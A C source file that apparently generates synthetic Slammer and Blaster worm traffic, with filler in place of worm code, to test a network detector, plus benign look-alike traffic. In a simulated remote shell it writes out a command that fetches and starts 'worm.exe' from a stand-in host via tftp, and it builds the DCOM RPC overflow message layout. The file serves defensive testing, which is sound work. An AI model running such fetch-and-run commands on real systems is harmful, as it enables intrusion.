/* worms.c - worms as they knock: the structure of what they send, with filler in place of
 * their code; and what looks like them.
 *
 * Facts: "finding" by type, and "worm" by its label with measures "findings" and "sources".
 */
#include "synth/talk.h"

enum { SLAMMERS = 40, KNOCKS = 3, DATAGRAM = 376, NAME = 96 };
#define MILLI INT64_C(1000000)
#define MONTH "2003-02"

static int64_t
set_up(struct stage *stage)
{
	stage_small(stage);
	struct stage_sensor *s = stage_sensor(
		stage, "line", "An ordinary line", "Asia/Tokyo", "192.0.2.0/24");
	stage_observed(s, "2003-02-01", "2003-02-03");
	return stage_time_ns(s, "2003-02-01T12:00:00");
}

static struct talk_end
victim(uint32_t i, uint16_t port)
{
	struct addr a = talk_addr("192.0.2.0");
	a.lo += i % 256;
	return (struct talk_end){ a, port };
}

static struct talk_end
sender(struct stage *stage, uint32_t i)
{
	return (struct talk_end){ stage_address(stage, i % 2 ? SMALL_CN : SMALL_US, i),
		(uint16_t)(1024 + i) };
}

/* --- Slammer ------------------------------------------------------------------------- */

static void
put_question(struct stage *stage, int64_t time_ns, uint32_t i, uint8_t kind, size_t name)
{
	uint8_t datagram[DATAGRAM];
	memset(datagram, 'A', sizeof(datagram));
	memset(datagram + 1, 1, NAME);
	datagram[0] = kind;
	datagram[1 + name] = '\0';
	talk_udp(stage, time_ns, sender(stage, i), victim(i * 7, 1434), 112,
		bytes_of(datagram, sizeof(datagram)));
}

static int
make_slammer(struct stage *stage, struct err *err)
{
	(void)err;
	int64_t start = set_up(stage);
	for (uint32_t i = 0; i < SLAMMERS; i++)
		put_question(stage, start + i * 900 * MILLI, i, 4, DATAGRAM - 2);
	talk_expect(stage, MONTH, "slammer", SLAMMERS);
	stage_fact(stage, MONTH, "worm", "Slammer", "findings", SLAMMERS);
	stage_fact(stage, MONTH, "worm", "Slammer", "sources", SLAMMERS);
	return 0;
}

/* --- calls over TCP --------------------------------------------------------------------
 */

static const uint8_t transfer_syntax[20] = { 0x04, 0x5d, 0x88, 0x8a, 0xeb, 0x1c, 0xc9, 0x11,
	0x9f, 0xe8, 0x08, 0x00, 0x2b, 0x10, 0x48, 0x60, 2 };
static const uint8_t activator[16] = { 0xa0, 0x01, 0, 0, 0, 0, 0, 0, 0xc0, 0, 0, 0, 0, 0, 0,
	0x46 };

struct message {
	size_t len;
	uint8_t at[1400];
};

static void
put(struct message *m, const void *from, size_t len)
{
	must(len <= sizeof(m->at) - m->len);
	memcpy(m->at + m->len, from, len);
	m->len += len;
}

static void
put_u8(struct message *m, uint8_t value)
{
	put(m, &value, 1);
}

static void
put_u16(struct message *m, size_t value)
{
	put_u8(m, (uint8_t)value);
	put_u8(m, (uint8_t)(value >> 8));
}

static void
put_zeros(struct message *m, size_t n)
{
	for (size_t i = 0; i < n; i++)
		put_u8(m, 0);
}

static void
put_rpc_header(struct message *m, uint8_t type, size_t len)
{
	static const uint8_t begin[] = { 5, 0 };
	put(m, begin, sizeof(begin));
	put_u8(m, type);
	put_u8(m, 3); /* first and last fragment */
	put_u8(m, 0x10);
	put_zeros(m, 3);
	put_u16(m, len);
	put_zeros(m, 6);
}

/* A bind of ISystemActivator and a call with a server's name of so many characters. */
static void
put_call(struct stage *stage, int64_t time_ns, uint32_t i, size_t characters)
{
	struct talk t = talk_begin(stage, time_ns, sender(stage, 1000 + i), victim(i, 135));
	struct message m = { .len = 0 };
	put_rpc_header(&m, 11, 72);
	put_zeros(&m, 8);
	put_u8(&m, 1);
	put_zeros(&m, 5);
	put_u8(&m, 1);
	put_zeros(&m, 1);
	put(&m, activator, sizeof(activator));
	put_zeros(&m, 4);
	put(&m, transfer_syntax, sizeof(transfer_syntax));
	size_t stub = 4 + 2 * characters + 2;
	put_rpc_header(&m, 0, 24 + stub);
	put_zeros(&m, 6);
	put_u16(&m, 4);
	put(&m, "\\\0\\\0", 4);
	for (size_t k = 0; k < characters; k++)
		put(&m, "A\0", 2);
	put(&m, "\\\0", 2);
	talk_say(&t, true, bytes_of(m.at, m.len));
	talk_end(&t);
}

/* The shell that the call opened, on another port. */
static void
put_shell(struct stage *stage, int64_t time_ns, uint32_t i, const char *order)
{
	struct talk t =
		talk_begin(stage, time_ns, sender(stage, 1000 + i), victim(i, 4444));
	talk_server(&t, "\r\nC:\\WINNT\\system32>");
	talk_client(&t, order);
	talk_end(&t);
}

static int
make_blaster(struct stage *stage, struct err *err)
{
	(void)err;
	int64_t start = set_up(stage);
	for (uint32_t i = 0; i < KNOCKS; i++) {
		put_call(stage, start + i * 60000 * MILLI, i, 400);
		put_shell(stage, start + (i * 60000 + 5000) * MILLI, i,
			"tftp -i 198.51.100.9 GET worm.exe\nstart worm.exe\n");
	}
	talk_expect(stage, MONTH, "rpc-exploit", KNOCKS);
	talk_expect(stage, MONTH, "remote-shell", KNOCKS);
	stage_fact(stage, MONTH, "worm", "MS03-026 (Blaster)", "findings", KNOCKS);
	stage_fact(stage, MONTH, "worm", "shell told to fetch or start a program",
		"findings", KNOCKS);
	return 0;
}

/* The same questions and calls as programs make them. */
static int
make_twin(struct stage *stage, struct err *err)
{
	(void)err;
	int64_t start = set_up(stage);
	for (uint32_t i = 0; i < SLAMMERS; i++)
		put_question(stage, start + i * 900 * MILLI, i, i % 2 ? 4 : 3,
			i % 2 ? 11 : NAME);
	for (uint32_t i = 0; i < KNOCKS; i++) {
		put_call(stage, start + i * 60000 * MILLI, i, 12);
		put_shell(stage, start + (i * 60000 + 5000) * MILLI, i, "dir\n");
	}
	talk_expect(stage, MONTH, "slammer", 0);
	talk_expect(stage, MONTH, "rpc-exploit", 0);
	talk_expect(stage, MONTH, "remote-shell", 0);
	return 0;
}

SCENE(worm_slammer) = {
	.name = "worm-slammer",
	.summary = "Slammer's datagrams from many sources",
	.shows = "worm",
	.make = make_slammer,
};

SCENE(worm_blaster) = {
	.name = "worm-blaster",
	.summary = "calls that overflow as Blaster's, and the shell that they open",
	.shows = "worm",
	.make = make_blaster,
};

SCENE(worm_twin) = {
	.name = "worm-twin",
	.summary =
		"questions to SQL Server, calls and shells as programs and people use them",
	.shows = "worm",
	.make = make_twin,
};
